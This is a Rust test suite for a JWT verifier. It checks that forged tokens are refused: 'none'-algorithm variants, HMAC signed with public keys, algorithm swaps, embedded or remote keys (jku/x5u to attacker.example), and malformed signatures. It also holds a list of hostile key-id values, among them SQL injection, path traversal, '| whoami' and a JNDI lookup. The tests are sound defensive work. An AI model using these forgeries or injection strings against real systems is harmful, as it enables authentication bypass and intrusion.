//! Tokens that nobody signed who may: other algorithms, other keys, keys that the token brings along.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use portcullis_engine::DenialReason::CredentialInvalid;
use portcullis_engine::jwt::VerificationKey;
use portcullis_engine::jwt::key::Material;
use portcullis_feed::Algorithm;
use serde_json::{Value, json};

use crate::keys;
use crate::scene::{Scene, claims, id, jwt, token, token_of, tokens, tokens_like};

/// The first two parts of a token.
fn unsigned(header: &Value) -> String {
    let claims = claims(1).to_string();
    format!(
        "{}.{}",
        keys::encode(header.to_string()),
        keys::encode(claims)
    )
}

#[test]
fn a_token_of_every_algorithm_opens_the_profile_whose_key_signed_it() {
    for algorithm in Algorithm::ALL {
        let scene = Scene::of(&[tokens(1, algorithm)]);
        let outcome = scene.bearer(&token(algorithm, &claims(1)));
        assert_eq!(outcome, Ok(Some(id(1))), "{algorithm:?}");
    }
}

#[test]
fn a_token_that_says_it_needs_no_signature_is_refused_in_every_spelling() {
    for algorithm in [
        Algorithm::HS256,
        Algorithm::RS256,
        Algorithm::ES256,
        Algorithm::EdDSA,
    ] {
        let scene = Scene::of(&[tokens(1, algorithm)]);
        for none in [
            "none", "None", "NONE", "nOnE", "none ", "", "null", "HS256\0",
        ] {
            let unsigned = unsigned(&json!({"alg": none}));
            let signature = keys::sign(algorithm, &unsigned);
            for token in [format!("{unsigned}."), format!("{unsigned}.{signature}")] {
                assert_eq!(
                    scene.bearer(&token),
                    Err(CredentialInvalid),
                    "{algorithm:?} {none}"
                );
            }
        }
        for header in [
            json!({}),
            json!({"alg": null}),
            json!({"alg": []}),
            json!({"alg": 0}),
        ] {
            let text = unsigned(&header);
            let token = format!("{text}.{}", keys::sign(algorithm, &text));
            assert_eq!(scene.bearer(&token), Err(CredentialInvalid), "{header}");
        }
        let right = json!({"alg": algorithm.name()});
        assert_eq!(
            scene.bearer(&format!("{}.", unsigned(&right))),
            Err(CredentialInvalid)
        );
        assert_eq!(
            scene.verifications(),
            1,
            "only what names the algorithm is worth it"
        );
    }
}

/// All that a public key can be mistaken for.
fn forms(algorithm: Algorithm) -> Vec<Vec<u8>> {
    let jwk = keys::public(algorithm);
    let key = VerificationKey::new(&jwk, algorithm).unwrap();
    let (spki, raw) = match key.material() {
        Material::Rsa { spki, modulus, .. } => (spki.clone(), vec![modulus.clone()]),
        Material::Ec { spki, point } => (spki.clone(), vec![point.clone(), point[1..33].to_vec()]),
        Material::Ed25519(point) => (vec![], vec![point.to_vec()]),
        Material::Secret(_) => unreachable!("a secret is not public"),
    };
    let lines: Vec<String> = STANDARD
        .encode(&spki)
        .as_bytes()
        .chunks(64)
        .map(|line| String::from_utf8_lossy(line).into_owned())
        .collect();
    let pem = |end: &str| {
        let (begin, close) = ("-----BEGIN PUBLIC KEY-----", "-----END PUBLIC KEY-----");
        let lines = lines.join(end);
        format!("{begin}{end}{lines}{end}{close}").into_bytes()
    };
    let (unix, windows) = (pem("\n"), pem("\r\n"));
    let mut forms = vec![
        [unix.as_slice(), b"\n"].concat(),
        [windows.as_slice(), b"\r\n"].concat(),
        unix,
        windows,
        lines.concat().into_bytes(),
        serde_json::to_vec(&jwk).unwrap(),
        // PKCS#1, as it stands within the other: after two sequences, an algorithm and the head of a bit string.
        spki.get(24..).unwrap_or_default().to_vec(),
        spki,
        vec![],
    ];
    forms.extend(raw.iter().map(|bytes| keys::encode(bytes).into_bytes()));
    forms.extend(raw);
    forms
}

#[test]
fn a_public_key_is_no_secret() {
    for algorithm in [
        Algorithm::RS256,
        Algorithm::PS256,
        Algorithm::ES256,
        Algorithm::EdDSA,
    ] {
        let scene = Scene::of(&[tokens(1, algorithm)]);
        for secret in forms(algorithm) {
            for mac in [Algorithm::HS256, Algorithm::HS384, Algorithm::HS512] {
                for named in [mac, algorithm] {
                    let unsigned = unsigned(&json!({"alg": named.name()}));
                    let tag = keys::sign_with(&secret, mac, &unsigned);
                    let token = format!("{unsigned}.{tag}");
                    assert_eq!(scene.bearer(&token), Err(CredentialInvalid));
                }
            }
        }
    }
}

#[test]
fn another_algorithm_than_the_profiles_is_refused_even_where_its_signature_fits_the_key() {
    let of_one_key = [
        &[Algorithm::HS256, Algorithm::HS384, Algorithm::HS512][..],
        &[
            Algorithm::RS384,
            Algorithm::RS256,
            Algorithm::PS256,
            Algorithm::PS512,
        ],
    ];
    for family in of_one_key {
        for (profile, used) in pairs(family) {
            let scene = Scene::of(&[tokens(1, profile)]);
            assert_eq!(
                scene.bearer(&token(used, &claims(1))),
                Err(CredentialInvalid)
            );
            let mislabelled = unsigned(&json!({"alg": profile.name()}));
            let mislabelled = format!("{mislabelled}.{}", keys::sign(used, &mislabelled));
            assert_eq!(scene.bearer(&mislabelled), Err(CredentialInvalid));
            let lower = unsigned(&json!({"alg": profile.name().to_lowercase()}));
            let lower = format!("{lower}.{}", keys::sign(profile, &lower));
            assert_eq!(scene.bearer(&lower), Err(CredentialInvalid));
        }
    }
}

/// Each with its neighbour, in both directions.
fn pairs(family: &[Algorithm]) -> impl Iterator<Item = (Algorithm, Algorithm)> {
    let neighbours = family.windows(2).map(|pair| (pair[0], pair[1]));
    neighbours.flat_map(|(one, other)| [(one, other), (other, one)])
}

/// A header that brings a key along, or says where one is.
fn with_key_of_its_own() -> Vec<Value> {
    let [x, y] = keys::FOREIGN_PUBLIC;
    let jwk = json!({"kty": "EC", "crv": "P-256", "x": x, "y": y, "kid": "own"});
    vec![
        json!({"alg": "ES256", "jwk": jwk}),
        json!({"alg": "ES256", "jwk": jwk, "kid": "own"}),
        json!({"alg": "ES256", "jwks": {"keys": [jwk]}}),
        json!({"alg": "ES256", "jku": "https://attacker.example/jwks.json", "kid": "own"}),
        json!({"alg": "ES256", "x5u": "https://attacker.example/chain.pem"}),
        json!({"alg": "ES256", "x5c": ["MIIB"], "x5t": "AAAA", "x5t#S256": "AAAA"}),
    ]
}

#[test]
fn a_key_that_the_token_brings_along_verifies_nothing() {
    let mut set = jwt(Algorithm::ES256, vec![keys::public(Algorithm::ES256)]);
    set.follows_key_set = true;
    let follower = tokens_like(1, set);
    for profile in [tokens(1, Algorithm::ES256), follower] {
        let scene = Scene::of(&[profile]);
        for header in with_key_of_its_own() {
            let unsigned = unsigned(&header);
            let token = format!("{unsigned}.{}", keys::sign_as_foreigner(&unsigned));
            assert_eq!(scene.bearer(&token), Err(CredentialInvalid), "{header}");
        }
    }
}

#[test]
fn a_key_that_the_token_brings_along_changes_nothing_about_a_good_signature() {
    let scene = Scene::of(&[tokens(1, Algorithm::ES256)]);
    for header in with_key_of_its_own() {
        let token = token_of(
            Algorithm::ES256,
            &header.to_string(),
            &claims(1).to_string(),
        );
        assert_eq!(scene.bearer(&token), Ok(Some(id(1))), "{header}");
    }
}

const STRANGE_NAMES: [&str; 8] = [
    "' OR '1'='1",
    "x' UNION SELECT 'secret' --",
    "../../../../dev/null",
    "/dev/null",
    "| whoami",
    "k\0",
    "\u{202e}k",
    "${jndi:ldap://attacker.example/x}",
];

#[test]
fn a_strange_name_of_a_key_is_a_name_and_nothing_else() {
    let huge = "k".repeat(8_000);
    let secret = keys::public(Algorithm::HS256);
    for kid in STRANGE_NAMES.into_iter().chain([huge.as_str(), ""]) {
        let scene = Scene::of(&[tokens(1, Algorithm::HS256)]);
        let unsigned = unsigned(&json!({"alg": "HS256", "kid": kid}));
        for guess in [&b""[..], b"\0", b"secret", kid.as_bytes(), &[0; 32]] {
            let token = format!(
                "{unsigned}.{}",
                keys::sign_with(guess, Algorithm::HS256, &unsigned)
            );
            assert_eq!(scene.bearer(&token), Err(CredentialInvalid), "{kid}");
        }
        let good = format!("{unsigned}.{}", keys::sign(Algorithm::HS256, &unsigned));
        assert_eq!(
            scene.bearer(&good),
            Ok(Some(id(1))),
            "a key that stands alone needs no name"
        );

        let mut named = secret.clone();
        named.kid = Some("k".into());
        let mut method = jwt(Algorithm::HS256, vec![named]);
        method.follows_key_set = true;
        let scene = Scene::of(&[tokens_like(1, method)]);
        let outcome = scene.bearer(&good);
        assert_eq!(
            outcome,
            Err(CredentialInvalid),
            "no key of the set is called `{kid}`"
        );
    }
}

#[test]
fn two_keys_of_one_name_both_count_and_no_third_does() {
    let named = |secret: &[u8]| {
        let mut key = keys::secret(secret);
        key.kid = Some("k".into());
        key
    };
    let (first, second) = ([1; 32], [2; 32]);
    let scene = Scene::of(&[tokens_like(
        1,
        jwt(Algorithm::HS256, vec![named(&first), named(&second)]),
    )]);
    let unsigned = unsigned(&json!({"alg": "HS256", "kid": "k"}));
    let signed_with = |secret| {
        format!(
            "{unsigned}.{}",
            keys::sign_with(secret, Algorithm::HS256, &unsigned)
        )
    };
    assert_eq!(scene.bearer(&signed_with(&first)), Ok(Some(id(1))));
    assert_eq!(scene.bearer(&signed_with(&second)), Ok(Some(id(1))));
    assert_eq!(scene.bearer(&signed_with(&[3; 32])), Err(CredentialInvalid));
}

#[test]
fn a_signature_on_a_curve_has_one_form() {
    let scene = Scene::of(&[tokens(1, Algorithm::ES256)]);
    let unsigned = unsigned(&json!({"alg": "ES256"}));
    let good = keys::decode(&keys::sign(Algorithm::ES256, &unsigned));
    let (r, s) = good.split_at(32);
    let order = keys::decode("_____wAAAAD__________7zm-q2nF56E87nKwvxjJVE");
    let zero = [0; 32];
    let integer = |half: &[u8]| [&[2, 33, 0][..], half].concat();
    let der = [&[0x30, 70][..], &integer(r), &integer(s)].concat();
    let bearer =
        |signature: &[u8]| scene.bearer(&format!("{unsigned}.{}", keys::encode(signature)));
    for bad in [
        [&zero[..], &zero].concat(),
        [&zero[..], s].concat(),
        [r, &zero].concat(),
        [&order[..], &order].concat(),
        [r, &order].concat(),
        [&order[..], s].concat(),
        [s, r].concat(),
        [&[0][..], r, &[0], s].concat(),
        [r, s, &[0]].concat(),
        [&[0][..], r, s].concat(),
        r.to_vec(),
        good[..63].to_vec(),
        [r, s, r, s].concat(),
        [0xff; 64].to_vec(),
        der,
        vec![],
    ] {
        assert_eq!(bearer(&bad), Err(CredentialInvalid), "{bad:?}");
    }
    assert_eq!(bearer(&good), Ok(Some(id(1))));
}

#[test]
fn a_part_of_a_mac_is_not_enough() {
    let scene = Scene::of(&[tokens(1, Algorithm::HS256)]);
    let unsigned = unsigned(&json!({"alg": "HS256"}));
    let good = keys::decode(&keys::sign(Algorithm::HS256, &unsigned));
    for bytes in 0..good.len() {
        let token = format!("{unsigned}.{}", keys::encode(&good[..bytes]));
        assert_eq!(
            scene.bearer(&token),
            Err(CredentialInvalid),
            "{bytes} bytes"
        );
    }
    let longer = keys::encode([good.as_slice(), &[0]].concat());
    assert_eq!(
        scene.bearer(&format!("{unsigned}.{longer}")),
        Err(CredentialInvalid)
    );
}

#[test]
fn a_key_of_another_kind_makes_no_profile() {
    for (algorithm, key) in [
        (Algorithm::HS256, keys::public(Algorithm::RS256)),
        (Algorithm::RS256, keys::public(Algorithm::HS256)),
        (Algorithm::ES256, keys::public(Algorithm::ES384)),
        (Algorithm::EdDSA, keys::public(Algorithm::ES256)),
    ] {
        let profile = tokens_like(1, jwt(algorithm, vec![key]));
        assert!(
            portcullis_engine::Record::of(&profile).is_err(),
            "{algorithm:?}"
        );
    }
}
